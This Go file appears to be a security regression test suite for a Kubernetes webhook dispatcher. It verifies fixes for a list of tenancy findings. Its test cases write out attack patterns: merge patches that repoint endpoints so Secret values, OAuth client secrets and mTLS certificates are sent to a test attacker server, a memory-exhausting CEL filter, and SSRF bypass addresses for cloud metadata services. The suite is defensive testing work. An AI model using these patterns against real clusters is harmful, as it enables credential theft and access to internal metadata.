package tenancy

import (
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"net/http"
	"net/url"
	"strconv"
	"strings"
	"sync"
	"time"
	"unicode"

	"k8s.io/apimachinery/pkg/api/meta"
	"sigs.k8s.io/controller-runtime/pkg/client"

	heraldv1 "github.com/herald-dev/herald/api/v1alpha1"
	"github.com/herald-dev/herald/hack/framework"
	"github.com/herald-dev/herald/pkg/verify"
)

// rows is the table, one row (or one per tenant) for every finding of issue 21.
var rows = append(append([]row{
	{
		id: "1", finding: "one CEL filter stops every namespace (the issue's 885-character replace() filter: 1.5 GB and 5-8 s per event)",
		role: "namespace owner (Role: * on * in team-a)", tries: "creates a WebhookSubscription with that filter; team A's producer publishes a matching event",
		want: "refused (apply refused, or Ready=False InvalidFilter); the dispatcher's peak RSS grows by less than 256 MiB",
		run:  rowExpensiveFilter,
	},
	tamperRow("2a", "operator", headerFromSecret), tamperRow("2b", "spec-editor", headerFromSecret),
	tamperRow("3a", "operator", oauth2ClientSecret), tamperRow("3b", "spec-editor", oauth2ClientSecret),
	tamperRow("4a", "operator", tlsClientCertificate), tamperRow("4b", "spec-editor", tlsClientCertificate),
	tamperRow("5a", "operator", signingSecretReuse), tamperRow("5b", "spec-editor", signingSecretReuse),
	{
		id: "6", finding: "the right to replay is the right to rewrite the spec: replay 72 h of retained payloads to a new URL",
		role:  "herald-operator; spec-editor (update, patch, no " + replayVerb + "); replayer (get, " + replayVerb + ")",
		tries: "operator points spec.url at the attacker and replays 72 h of delivered events; spec-editor replays; replayer replays",
		want:  "operator's URL change refused; spec-editor's replay 403; replayer's replay 202; no retained payload reaches the attacker",
		run:   rowReplayToNewURL,
	},
	{
		id: "7", finding: "a deleted endpoint's pending deliveries, dead letters and attempts pass to the next endpoint of that name",
		role: "namespace owner", tries: "deletes r7-billing (a dead letter, a delivery waiting for its retry) and creates r7-billing again at the attacker's URL; lists, replays",
		want: "nothing of the old endpoint arrives at the new URL; its dead letters and attempts are not listed; a replay re-sends none of them",
		run:  rowRecreateSameName,
	},
	{
		id: "8", finding: "tokens are not bound to Herald: the dispatcher accepts any audience, the CLI sends the kubeconfig's own token",
		role: "herald-publisher; herald-operator", tries: "publishes and lists dead letters with a token for the API server's audience; runs herald dlq list with a kubeconfig holding such a token",
		want: "401 for both; the CLI presents a token other than the kubeconfig's, for Herald's audience",
		run:  rowTokenAudience,
	},
	{
		id: "9", finding: "the dispatcher caches the content of every Secret in the cluster",
		role: "none: a Secret of team-c, a namespace without Herald", tries: "(nothing: the Secret's value is looked for in the dispatcher's memory, /proc/<pid>/mem)",
		want: "absent, while a value the dispatcher does use (a header from a referenced Secret) is found",
		run:  rowUnrelatedSecretInMemory,
	},
	{
		id: "10", finding: "receivers' response bodies (which can echo a Secret-sourced header) are stored and readable with get on the endpoint",
		role: "viewer (Role: get, list, watch on webhookendpoints); namespace owner", tries: "reads r10-hook's attempts and an event's history (its receiver echoes the Authorization header sent from a Secret)",
		want: "the viewer reads no response body holding the value; the stored sample has it redacted",
		run:  rowResponseSamples,
	},
}, outboundRows()...), []row{
	{
		id: "12", finding: "replays: one at a time only per process; the log does not name who asked",
		role: "herald-operator", tries: "starts two replays of r12-hook at once through the endpoint API",
		want: "one accepted, the other refused (409); the dispatcher's log names the caller",
		run:  rowConcurrentReplays,
	},
	{
		id: "13", finding: "the CLI prints receiver-controlled text with terminal control characters intact",
		role: "built-in edit (with the chart's roles aggregated)", tries: "runs herald attempts list and herald events get on r13-hook, whose receiver answers with escape sequences",
		want: "no control character of the receiver's reaches the terminal",
		run:  rowControlCharacters,
	},
}...)

// --- row 1 ---

// expensiveFilter is issue 21's filter, S a 200-character literal of x: 885 characters.
func expensiveFilter() string {
	s := "'" + strings.Repeat("x", 200) + "'"
	return fmt.Sprintf("(%s.replace('x',%s)).replace('x', %s.replace('x',%s)).size() > 0 && event.type == 'a'", s, s, s, s)
}

func rowExpensiveFilter(w *world, o *outcome) {
	filter := expensiveFilter()
	owner, producer := w.ids["owner"], w.ids["producer"]
	manifest := fmt.Sprintf(`apiVersion: hooks.herald.dev/v1alpha1
kind: WebhookSubscription
metadata: {name: r1-expensive, namespace: %s}
spec:
  endpointRef: {name: r1-sink}
  eventTypes: ["a"]
  filter: %q
`, teamA, filter)
	res := w.Kubectl("apply", "--server-side", "-f", "-").As(owner.kubeconfig).WithStdin([]byte(manifest)).Run(o.t)
	if res.Code != 0 {
		o.saw("the %d-character filter was refused at apply: %s", len(filter), short(res.Stderr))
	} else {
		var sub heraldv1.WebhookSubscription
		err := w.Wait(30*time.Second).Poll("the manager's verdict on r1-expensive", func() error {
			if err := w.Cluster.Client.Get(o.t.Context(), key(teamA, "r1-expensive"), &sub); err != nil {
				return err
			}
			if c := meta.FindStatusCondition(sub.Status.Conditions, heraldv1.ConditionReady); c != nil && c.ObservedGeneration >= sub.Generation {
				return nil
			}
			return framework.ErrNotYet
		})
		c := meta.FindStatusCondition(sub.Status.Conditions, heraldv1.ConditionReady)
		switch {
		case err != nil:
			o.fail("the subscription was admitted and the manager gave no verdict: %v", err)
		case c.Status == "False" && c.Reason == heraldv1.ReasonInvalidFilter:
			o.saw("subscription Ready=False InvalidFilter: %s", short(c.Message))
		default:
			o.fail("the %d-character filter was admitted: subscription Ready=%s (%s)", len(filter), c.Status, c.Reason)
		}
	}

	before, err := framework.ReadMemory(w.dispatcher.Pid())
	if err != nil {
		o.fail("reading the dispatcher's memory: %v", err)
		return
	}
	start := time.Now()
	status, pub := w.publish(producer, teamA, "a", `{"n":1}`)
	took := time.Since(start)
	after, err := framework.ReadMemory(w.dispatcher.Pid())
	if err != nil {
		o.fail("reading the dispatcher's memory: %v", err)
		return
	}
	growth := after.Peak - before.Peak
	summary := fmt.Sprintf("a matching publish was answered %d (matched %d) in %s; the dispatcher's peak RSS went %s → %s (RSS now %s)",
		status, pub.Matched, took.Round(time.Millisecond), framework.MiB(before.Peak), framework.MiB(after.Peak), framework.MiB(after.RSS))
	if growth > 256<<20 {
		o.fail("%s", summary)
	} else {
		o.saw("%s", summary)
	}
}

// --- rows 2 to 5 ---

// tampering is one way of repointing an endpoint so that something it may use, and its
// author may not read, reaches the attacker.
type tampering struct {
	finding, tries string
	// endpoint is the endpoint patched, per tenant ("-op" or "-ed" appended).
	endpoint string
	// patch is the merge patch, given the attacker's path.
	patch func(w *world, path string) string
	// tls: the attacker listens on https.
	tls bool
	// leaked says what of a request must not have arrived ("" for nothing).
	leaked func(w *world, q framework.Recorded) string
}

var headerFromSecret = tampering{
	finding:  "an endpoint is a way to read Secrets: spec.url to the attacker plus headers[].valueFrom a Secret of the namespace",
	tries:    "patches spec.url to the attacker's server and adds a header valueFrom Secret payments-api-token",
	endpoint: "r2",
	patch: func(w *world, path string) string {
		return fmt.Sprintf(`{"spec":{"url":%q,"headers":[{"name":"X-Steal","valueFrom":{"name":"payments-api-token","key":"token"}}]}}`, w.attacker.URL()+path)
	},
	leaked: func(w *world, q framework.Recorded) string {
		if strings.Contains(haystack(q), w.secrets["payments-token"]) {
			return "Secret payments-api-token's value"
		}
		return ""
	},
}

var oauth2ClientSecret = tampering{
	finding:  "auth.oauth2.tokenURL at the attacker with clientSecretRef naming another team's Secret",
	tries:    "patches auth.oauth2 (tokenURL: the attacker's, clientSecretRef: Secret billing-oauth)",
	endpoint: "r3",
	patch: func(w *world, path string) string {
		return fmt.Sprintf(`{"spec":{"auth":{"oauth2":{"tokenURL":%q,"clientID":"stolen","clientSecretRef":{"name":"billing-oauth","key":"client-secret"}}}}}`, w.attacker.URL()+path+"/token")
	},
	leaked: func(w *world, q framework.Recorded) string {
		if strings.Contains(haystack(q), w.secrets["billing-client-secret"]) {
			return "Secret billing-oauth's client secret"
		}
		return ""
	},
}

var tlsClientCertificate = tampering{
	finding:  "tls.clientCertificateSecretRef naming another team's TLS Secret",
	tries:    "patches spec.url to the attacker's https server (its CA in tls.caBundle) and tls.clientCertificateSecretRef: payments-mtls",
	endpoint: "r4",
	tls:      true,
	patch: func(w *world, path string) string {
		ca := string(pemCertificate(w.attackerTLS.Server().Certificate().Raw))
		return fmt.Sprintf(`{"spec":{"url":%q,"tls":{"caBundle":%q,"clientCertificateSecretRef":{"name":"payments-mtls"}}}}`, w.attackerTLS.URL()+path, ca)
	},
	leaked: func(w *world, q framework.Recorded) string {
		for _, c := range q.PeerCertificates {
			if string(c.Raw) == string(w.mtlsCert) {
				return "team A's payments client certificate (the attacker's server was shown it, with proof of its key)"
			}
		}
		return ""
	},
}

var signingSecretReuse = tampering{
	finding:  "secretRef reusing another endpoint's signing Secret: its signature on content of the attacker's choosing",
	tries:    "patches spec.url to the attacker's server and secretRef to r5-ledger's signing Secret",
	endpoint: "r5",
	patch: func(w *world, path string) string {
		return fmt.Sprintf(`{"spec":{"url":%q,"secretRef":{"name":"r5-ledger-signing","key":"secret"}}}`, w.attacker.URL()+path)
	},
	leaked: func(w *world, q framework.Recorded) string {
		if verify.StandardWebhooks(w.secrets["r5-ledger-signing"], q.Header, q.Body) == nil {
			return "a delivery signed with r5-ledger's secret"
		}
		return ""
	},
}

var tenantRoles = map[string]string{
	"operator":    "herald-operator (the chart's ClusterRole, RoleBinding in team-a)",
	"spec-editor": "spec-editor (Role: today's herald-operator rules on endpoints; nothing on Secrets)",
}

func tamperRow(id, tenant string, tm tampering) row {
	return row{
		id: id, finding: tm.finding, role: tenantRoles[tenant], tries: tm.tries,
		want: "the change is refused; nothing it names reaches the attacker",
		run:  func(w *world, o *outcome) { w.tamper(o, w.ids[tenant], tm) },
	}
}

// tamper has a tenant patch an endpoint, then has the team's producer publish an event
// for it, and checks what reached the attacker.
func (w *world) tamper(o *outcome, who *identity, tm tampering) {
	endpoint := tm.endpoint + "-" + map[string]string{"operator": "op", "spec-editor": "ed"}[who.name]
	path := "/" + endpoint
	rec := w.attacker
	if tm.tls {
		rec = w.attackerTLS
	}
	res := w.Kubectl("patch", "whe", endpoint, "-n", teamA, "--type", "merge", "-p", tm.patch(w, path)).As(who.kubeconfig).Run(o.t)
	if res.Code == 0 {
		o.fail("the API server accepted the patch of %s by %s", endpoint, who.name)
		if err := w.dispatcherSawGeneration(teamA, endpoint); err != nil {
			o.saw("%v", err)
		}
	} else {
		o.saw("patch refused: %s", short(res.Stderr))
	}
	_, probe := w.publish(w.ids["producer"], teamA, endpoint+".probe", `{"probe":true}`)
	// Until the probe is delivered where it belongs, something reaches the attacker, or
	// the endpoint holds its deliveries.
	err := w.Wait(20*time.Second).Poll("the probe "+probe.ID+" to be delivered or held", func() error {
		if len(received(w.legit, "/team-a/"+endpoint, probe.ID)) > 0 || len(rec.Requests(path)) > 0 {
			return nil
		}
		ep, err := w.endpoint(teamA, endpoint)
		if err != nil {
			return err
		}
		if c := meta.FindStatusCondition(ep.Status.Conditions, heraldv1.ConditionDelivering); c != nil && c.Status == "False" && c.ObservedGeneration >= ep.Generation {
			return nil
		}
		return framework.ErrNotYet
	})
	if err != nil {
		o.saw("%v", err)
	}
	got := rec.Requests(path)
	leaks := map[string]int{}
	for _, q := range got {
		if what := tm.leaked(w, q); what != "" {
			leaks[what]++
		}
	}
	for what, n := range leaks {
		o.fail("%s reached the attacker's server (%d of %d requests there)", what, n, len(got))
	}
	if len(leaks) == 0 {
		o.saw("nothing of it reached the attacker (%d requests there)", len(got))
	}
}

// haystack is a request as text, with Basic credentials decoded and the body's form
// encoding undone, so that a value is found however it was sent.
func haystack(q framework.Recorded) string {
	s := q.Raw()
	if user, pass, ok := (&http.Request{Header: q.Header}).BasicAuth(); ok {
		s += "\n" + user + ":" + pass
	}
	if body, err := url.QueryUnescape(string(q.Body)); err == nil {
		s += "\n" + body
	}
	return s
}

// --- row 6 ---

func rowReplayToNewURL(w *world, o *outcome) {
	const endpoint = "r6-ledger"
	marker := "r6-payload-" + randomHex(8)
	var ids []string
	for i := range 2 {
		_, p := w.publish(w.ids["producer"], teamA, endpoint+".invoice", fmt.Sprintf(`{"marker":%q,"n":%d}`, marker, i))
		ids = append(ids, p.ID)
	}
	if err := w.Wait(20*time.Second).Poll("team A's own events to be delivered (and retained)", func() error {
		for _, id := range ids {
			if len(received(w.legit, "/team-a/"+endpoint, id)) == 0 {
				return fmt.Errorf("%s not delivered", id)
			}
		}
		return nil
	}); err != nil {
		o.fail("%v", err)
		return
	}

	operator := w.ids["operator"]
	patch := fmt.Sprintf(`{"spec":{"url":%q}}`, w.attacker.URL()+"/row6")
	if res := w.Kubectl("patch", "whe", endpoint, "-n", teamA, "--type", "merge", "-p", patch).As(operator.kubeconfig).Run(o.t); res.Code == 0 {
		o.fail("herald-operator changed spec.url")
		if err := w.dispatcherSawGeneration(teamA, endpoint); err != nil {
			o.saw("%v", err)
		}
	} else {
		o.saw("herald-operator's change of spec.url refused: %s", short(res.Stderr))
	}
	// Each replay is started once the one before has ended, so that an answer says
	// whether the tenant may replay, not that another replay is running.
	replay := func(who *identity) int {
		status, body := w.call(http.MethodPost, "/v1/namespaces/"+teamA+"/endpoints/"+endpoint+"/replays", who.token,
			[]byte(`{"since":"72h","from":["delivered"]}`), 30*time.Second)
		o.t.Logf("replay as %s: %d %s", who.name, status, body)
		if status == http.StatusAccepted {
			var started struct{ ID string }
			_ = json.Unmarshal(body, &started)
			if err := w.replayEnded(teamA, endpoint, started.ID); err != nil {
				o.saw("%v", err)
			}
		}
		return status
	}
	accepted := 0
	if st := replay(operator); st == http.StatusAccepted {
		accepted++
		o.saw("herald-operator's replay accepted")
	} else {
		o.saw("herald-operator's replay answered %d", st)
	}
	if st := replay(w.ids["spec-editor"]); st != http.StatusForbidden {
		o.fail("spec-editor (update and patch, no %q) was answered %d to a replay, not 403", replayVerb, st)
		if st == http.StatusAccepted {
			accepted++
		}
	} else {
		o.saw("spec-editor's replay 403")
	}
	if st := replay(w.ids["replayer"]); st != http.StatusAccepted {
		o.fail("replayer (get and %q only) was answered %d to a replay, not 202: replay is not a permission of its own", replayVerb, st)
	} else {
		accepted++
		o.saw("replayer's replay 202")
	}
	if accepted > 0 {
		// Replays re-send with the original event ids: wait until they reached one side.
		_ = w.Wait(15*time.Second).Poll("the replayed events", func() error {
			if len(w.attacker.Requests("/row6")) > 0 {
				return nil
			}
			for _, id := range ids {
				if len(received(w.legit, "/team-a/"+endpoint, id)) < 2 {
					return framework.ErrNotYet
				}
			}
			return nil
		})
	}
	leaked := 0
	for _, q := range w.attacker.Requests("/row6") {
		if strings.Contains(haystack(q), marker) {
			leaked++
		}
	}
	if leaked > 0 {
		o.fail("%d retained payloads of team A were replayed to the attacker's URL", leaked)
	} else {
		o.saw("no retained payload reached the attacker")
	}
}

// --- row 7 ---

func rowRecreateSameName(w *world, o *outcome) {
	const endpoint = "r7-billing"
	owner, producer := w.ids["owner"], w.ids["producer"]
	api := "/v1/namespaces/" + teamA + "/endpoints/" + endpoint

	// A dead letter: the receiver fails, one retry after 300ms, then the dead letter.
	_, dead := w.publish(producer, teamA, endpoint+".invoice", `{"old":"dead letter"}`)
	if err := w.Wait(20*time.Second).Poll("the old endpoint's dead letter", func() error {
		if _, body := w.call(http.MethodGet, api+"/dead-letters", owner.token, nil, 10*time.Second); !strings.Contains(string(body), dead.ID) {
			return framework.ErrNotYet
		}
		return nil
	}); err != nil {
		o.fail("%v", err)
		return
	}
	// A delivery waiting for its retry: the next wait is 4s.
	w.Kubectl("patch", "whe", endpoint, "-n", teamA, "--type", "merge", "-p", `{"spec":{"retry":{"schedule":["300ms","4s"]}}}`).As(owner.kubeconfig).Must(o.t)
	if err := w.dispatcherSawGeneration(teamA, endpoint); err != nil {
		o.fail("%v", err)
		return
	}
	_, pending := w.publish(producer, teamA, endpoint+".invoice", `{"old":"pending retry"}`)
	if err := w.Wait(15*time.Second).Poll("two failed attempts of the pending delivery", func() error {
		if len(received(w.legit, "/team-a/"+endpoint, pending.ID)) < 2 {
			return framework.ErrNotYet
		}
		return nil
	}); err != nil {
		o.fail("%v", err)
		return
	}
	retryDue := time.Now().Add(4 * time.Second)

	// Deleted, and created again under the same name at the attacker's URL.
	w.Kubectl("delete", "whe", endpoint, "-n", teamA, "--wait=true").As(owner.kubeconfig).Must(o.t)
	manifest := fmt.Sprintf("apiVersion: hooks.herald.dev/v1alpha1\nkind: WebhookEndpoint\nmetadata: {name: %s, namespace: %s}\nspec:\n  url: %s\n", endpoint, teamA, w.attacker.URL()+"/row7")
	w.Kubectl("apply", "--server-side", "-f", "-").As(owner.kubeconfig).WithStdin([]byte(manifest)).Must(o.t)
	o.saw("deleted with a dead letter and a delivery due for retry, created again at the attacker's URL")
	// The new endpoint is live once the dispatcher reports on it: an event published then
	// is its own and reaches it (one published before the dispatcher knew the endpoint
	// would be routed to nothing).
	if err := w.dispatcherSawGeneration(teamA, endpoint); err != nil {
		o.fail("%v", err)
		return
	}
	_, fresh := w.publish(producer, teamA, endpoint+".invoice", `{"new":"endpoint"}`)
	if err := w.Wait(30*time.Second).Poll("the new endpoint's own event", func() error {
		if len(received(w.attacker, "/row7", fresh.ID)) == 0 {
			return framework.ErrNotYet
		}
		return nil
	}); err != nil {
		o.fail("the new endpoint did not deliver its own event: %v", err)
	}
	time.Sleep(time.Until(retryDue.Add(2 * time.Second)))

	// What the old endpoint had, looked for through every door.
	old := []string{dead.ID, pending.ID}
	listed := func(what string, status int, body []byte) {
		for _, id := range old {
			if strings.Contains(string(body), id) {
				o.fail("the old endpoint's event %s is listed in the new one's %s", id, what)
				return
			}
		}
		o.saw("%s: %d, nothing of the old endpoint", what, status)
	}
	st, body := w.call(http.MethodGet, api+"/dead-letters", owner.token, nil, 10*time.Second)
	listed("dead letters", st, body)
	st, body = w.call(http.MethodGet, api+"/attempts", owner.token, nil, 10*time.Second)
	listed("attempts", st, body)
	st, body = w.call(http.MethodPost, api+"/replays", owner.token, []byte(`{"all":true,"from":["dead-letters","delivered"]}`), 10*time.Second)
	o.t.Logf("replay of everything stored for the new endpoint: %d %s", st, body)
	time.Sleep(2 * time.Second)
	for _, q := range w.attacker.Requests("/row7") {
		if id := q.Header.Get("Webhook-Id"); id != fresh.ID {
			o.fail("the old endpoint's event %s was delivered to the new endpoint at the attacker's URL", id)
			return
		}
	}
	o.saw("the attacker's URL got only the new endpoint's own event")
}

// --- row 8 ---

func rowTokenAudience(w *world, o *outcome) {
	// Tokens as `kubectl create token` and a kubeconfig hold them: the API server's audience.
	plainProducer := w.Cluster.Token(o.t, framework.TokenInput{Namespace: teamA, ServiceAccount: "producer"})
	plainOperator := w.Cluster.Token(o.t, framework.TokenInput{Namespace: teamA, ServiceAccount: "operator"})
	if st, _ := w.publishAs(plainProducer, teamA, "r1-sink.plain", `{}`); st != http.StatusUnauthorized {
		o.fail("a token for the API server's audience (%s) was answered %d at ingest, not 401", w.apiAudience, st)
	} else {
		o.saw("ingest: 401")
	}
	if st, _ := w.call(http.MethodGet, "/v1/namespaces/"+teamA+"/endpoints/r6-ledger/dead-letters", plainOperator, nil, 10*time.Second); st != http.StatusUnauthorized {
		o.fail("the endpoint API answered %d to a token for the API server's audience, not 401", st)
	} else {
		o.saw("endpoint API: 401")
	}

	// The CLI, with a person's kubeconfig and HERALD_URL pointing at a server that keeps
	// what it is shown.
	kc := w.Cluster.KubeconfigForToken(o.t, w.Dir, "team-a-operator-plain", plainOperator)
	capture := framework.NewRecorder(o.t)
	capture.SetAnswer(func(*http.Request) (int, string) { return http.StatusOK, `{"items":[],"more":false}` })
	res := w.Herald("dlq", "list", "r6-ledger", "-n", teamA).As(kc).WithEnv("HERALD_URL=" + capture.URL()).Run(o.t)
	got := capture.Requests("")
	if len(got) == 0 {
		o.fail("herald dlq list sent no request (exit %d: %s)", res.Code, short(res.Output()))
		return
	}
	bearer := strings.TrimPrefix(got[0].Header.Get("Authorization"), "Bearer ")
	auds, _ := framework.TokenAudiences(bearer)
	switch {
	case bearer == plainOperator:
		o.fail("the CLI sent the kubeconfig's own token (audiences %v) to HERALD_URL", auds)
	case !contains(auds, heraldAudience):
		o.fail("the CLI sent a token for audiences %v, not %q", auds, heraldAudience)
	default:
		o.saw("the CLI presented its own token for %v", auds)
	}
}

// --- row 9 ---

func rowUnrelatedSecretInMemory(w *world, o *outcome) {
	unrelated := w.secrets["unrelated"]
	// What the dispatcher must hold to work: the header r10-hook sends from its Secret.
	used := "Bearer " + w.secrets["r10-token"]
	found, searched, err := framework.MemoryContains(w.dispatcher.Pid(),
		[]byte(unrelated), []byte(base64.StdEncoding.EncodeToString([]byte(unrelated))), []byte(used))
	switch {
	case err != nil:
		o.fail("reading the dispatcher's memory: %v", err)
	case !found[2]:
		o.fail("the search of %s did not find a value the dispatcher sends on every delivery to r10-hook: the search is broken", framework.MiB(searched))
	case found[0] || found[1]:
		o.fail("the value of Secret team-c/database, which no endpoint references, is in the dispatcher's memory (%s searched)", framework.MiB(searched))
	default:
		o.saw("absent from %s of the dispatcher's memory, where r10-hook's header value was found", framework.MiB(searched))
	}
}

// --- row 10 ---

func rowResponseSamples(w *world, o *outcome) {
	const endpoint = "r10-hook"
	token := w.secrets["r10-token"]
	owner, viewer := w.ids["owner"], w.ids["viewer"]
	api := "/v1/namespaces/" + teamA + "/endpoints/" + endpoint + "/attempts"
	_, probe := w.publish(w.ids["producer"], teamA, endpoint+".probe", `{"probe":true}`)
	if err := w.Wait(10*time.Second).Poll("the probe's attempt to be recorded", func() error {
		if len(received(w.legit, "/team-a/"+endpoint, probe.ID)) == 0 {
			return fmt.Errorf("not delivered yet")
		}
		if _, body := w.call(http.MethodGet, api, owner.token, nil, 10*time.Second); !strings.Contains(string(body), probe.ID) {
			return fmt.Errorf("not in the attempt log yet")
		}
		return nil
	}); err != nil {
		o.saw("%v", err)
	}
	for _, path := range []string{api, "/v1/namespaces/" + teamA + "/events/" + probe.ID} {
		st, body := w.call(http.MethodGet, path, viewer.token, nil, 10*time.Second)
		if strings.Contains(string(body), token) {
			o.fail("the viewer read the receiver's response body holding the Authorization value at %s (%d)", path, st)
		} else {
			o.saw("viewer at %s: %d, no secret value", strings.TrimPrefix(path, "/v1/namespaces/"+teamA), st)
		}
	}
	st, body := w.call(http.MethodGet, api, owner.token, nil, 10*time.Second)
	if strings.Contains(string(body), token) {
		o.fail("the stored response sample holds the Authorization value unredacted (read by the owner, %d)", st)
	} else {
		o.saw("the owner's read (%d) holds no secret value", st)
	}
}

// --- row 11 ---

// outboundRows are one row per address range issue 21 found missing from the outbound
// policy. IPv4 addresses are written as one decimal number, the way a browser (and the
// policy) reads them, so that the status cannot name the address by quoting the URL.
func outboundRows() []row {
	ranges := []struct{ id, what, host, addr string }{
		{"11a", "NAT64 64:ff9b::/96 (to 169.254.169.254)", "[64:ff9b::a9fe:a9fe]", "64:ff9b::a9fe:a9fe"},
		{"11b", "6to4 2002::/16 (to 169.254.169.254)", "[2002:a9fe:a9fe::]", "2002:a9fe:a9fe::"},
		{"11c", "benchmarking 198.18.0.0/15", "3323068417", "198.18.0.1"},
		{"11d", "reserved 240.0.0.0/4", "4026531841", "240.0.0.1"},
		{"11e", "Azure's 168.63.129.16", "2822734096", "168.63.129.16"},
		{"11f", "AWS IPv6 metadata fd00:ec2::23", "[fd00:ec2::23]", "fd00:ec2::23"},
		{"11g", "GCP IPv6 metadata fd20:ce::254", "[fd20:ce::254]", "fd20:ce::254"},
	}
	var out []row
	for _, r := range ranges {
		u := "http://" + r.host + "/hook"
		out = append(out, row{
			id: r.id, finding: "the outbound policy misses " + r.what + "; refusals put resolved addresses on status",
			role: "namespace owner", tries: "creates an endpoint at " + u,
			want: "refused; the status names the rule, not the address",
			run:  func(w *world, o *outcome) { rowOutbound(w, o, "r"+r.id, u, r.addr) },
		})
	}
	return out
}

func rowOutbound(w *world, o *outcome, name, u, addr string) {
	manifest := fmt.Sprintf("apiVersion: hooks.herald.dev/v1alpha1\nkind: WebhookEndpoint\nmetadata: {name: %s, namespace: %s}\nspec:\n  url: %q\n", name, teamA, u)
	res := w.Kubectl("apply", "--server-side", "-f", "-").As(w.ids["owner"].kubeconfig).WithStdin([]byte(manifest)).Run(o.t)
	// The host as written may be named (an IPv6 literal is the address itself); an
	// address it stands for, or resolves to, may not.
	written := strings.Trim(strings.TrimSuffix(strings.TrimPrefix(u, "http://"), "/hook"), "[]")
	namesAddress := func(msg string) bool {
		msg = strings.ReplaceAll(strings.ReplaceAll(msg, u, ""), strconv.Quote(written), "")
		return strings.Contains(msg, addr) || strings.Contains(msg, "169.254.169.254")
	}
	if res.Code != 0 {
		if namesAddress(res.Stderr) {
			o.fail("refused at apply, naming the address: %s", short(res.Stderr))
		} else {
			o.saw("refused at apply: %s", short(res.Stderr))
		}
		return
	}
	var ep *heraldv1.WebhookEndpoint
	err := w.Wait(30*time.Second).Poll("the manager's verdict on "+name, func() error {
		var err error
		if ep, err = w.endpoint(teamA, name); err != nil {
			return err
		}
		if c := meta.FindStatusCondition(ep.Status.Conditions, heraldv1.ConditionReady); c != nil && c.ObservedGeneration >= ep.Generation && c.Reason != heraldv1.ReasonSecretNotFound {
			return nil
		}
		return framework.ErrNotYet
	})
	if err != nil {
		o.fail("%v", err)
		return
	}
	c := meta.FindStatusCondition(ep.Status.Conditions, heraldv1.ConditionReady)
	switch {
	case c.Status == "True":
		o.fail("accepted: Ready=True")
	case namesAddress(c.Message):
		o.fail("Ready=False %s, naming the address: %s", c.Reason, short(c.Message))
	default:
		o.saw("Ready=False %s: %s", c.Reason, short(c.Message))
	}
}

// --- row 12 ---

func rowConcurrentReplays(w *world, o *outcome) {
	const endpoint = "r12-hook"
	operator := w.ids["operator"]
	var ids []string
	for i := range 10 {
		_, p := w.publish(w.ids["producer"], teamA, endpoint+".order", fmt.Sprintf(`{"n":%d}`, i))
		ids = append(ids, p.ID)
	}
	if err := w.Wait(20*time.Second).Poll("r12-hook's events to be delivered (and retained)", func() error {
		for _, id := range ids {
			if len(received(w.legit, "/team-a/"+endpoint, id)) == 0 {
				return fmt.Errorf("%s not delivered", id)
			}
		}
		return nil
	}); err != nil {
		o.fail("%v", err)
		return
	}
	var wg sync.WaitGroup
	statuses := make([]int, 2)
	for i := range statuses {
		wg.Add(1)
		go func() {
			defer wg.Done()
			statuses[i], _ = w.call(http.MethodPost, "/v1/namespaces/"+teamA+"/endpoints/"+endpoint+"/replays", operator.token,
				[]byte(`{"since":"72h","from":["delivered"]}`), 30*time.Second)
		}()
	}
	wg.Wait()
	accepted, conflicts := 0, 0
	for _, st := range statuses {
		switch st {
		case http.StatusAccepted:
			accepted++
		case http.StatusConflict:
			conflicts++
		}
	}
	if accepted == 1 && conflicts == 1 {
		o.saw("two replays at once: one 202, one 409")
	} else {
		o.fail("two replays at once were answered %v (want one 202 and one 409)", statuses)
	}
	err := w.Wait(5*time.Second).Poll("a replay log line naming "+operator.user, framework.Bool(func() bool {
		for _, line := range strings.Split(w.dispatcher.Output(), "\n") {
			if strings.Contains(strings.ToLower(line), "replay") && strings.Contains(line, operator.user) {
				return true
			}
		}
		return false
	}))
	if err != nil {
		o.fail("the dispatcher's log has no replay line naming the caller %s", operator.user)
	} else {
		o.saw("the dispatcher's replay log line names %s", operator.user)
	}
}

// --- row 13 ---

func rowControlCharacters(w *world, o *outcome) {
	const endpoint = "r13-hook"
	editor := w.ids["editor"]
	_, probe := w.publish(w.ids["producer"], teamA, endpoint+".probe", `{"probe":true}`)
	_ = w.Wait(10*time.Second).Poll("the probe's attempt to be recorded", func() error {
		if _, body := w.call(http.MethodGet, "/v1/namespaces/"+teamA+"/endpoints/"+endpoint+"/attempts", w.ids["owner"].token, nil, 10*time.Second); !strings.Contains(string(body), probe.ID) {
			return framework.ErrNotYet
		}
		return nil
	})
	env := []string{"HERALD_URL=" + w.ingest, "HERALD_TOKEN=" + editor.token}
	for _, args := range [][]string{
		{"attempts", "list", endpoint, "-n", teamA},
		{"events", "get", probe.ID, "-n", teamA},
	} {
		res := w.Herald(args...).As(editor.kubeconfig).WithEnv(env...).Run(o.t)
		out := res.Stdout + res.Stderr
		bad := controlCharacters(out)
		switch {
		case len(bad) > 0:
			o.fail("herald %s printed %d terminal control characters of the receiver's (%q)", strings.Join(args[:2], " "), len(bad), bad)
		case strings.Contains(out, "ALERT"):
			o.saw("herald %s printed the body without control characters", strings.Join(args[:2], " "))
		default:
			o.saw("herald %s (exit %d) printed no body of the receiver's", strings.Join(args[:2], " "), res.Code)
		}
	}
}

// controlCharacters returns the control characters of s a terminal acts on: C0 but
// newline and tab, DEL, C1.
func controlCharacters(s string) []rune {
	var out []rune
	for _, r := range s {
		if r == '\n' || r == '\t' {
			continue
		}
		if unicode.IsControl(r) {
			out = append(out, r)
		}
	}
	return out
}

// --- helpers ---

func short(s string) string {
	s = strings.Join(strings.Fields(s), " ")
	if len(s) > 220 {
		s = s[:217] + "..."
	}
	return s
}

func contains(list []string, s string) bool {
	for _, v := range list {
		if v == s {
			return true
		}
	}
	return false
}

func key(ns, name string) client.ObjectKey { return client.ObjectKey{Namespace: ns, Name: name} }

func pemCertificate(der []byte) []byte {
	return pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der})
}
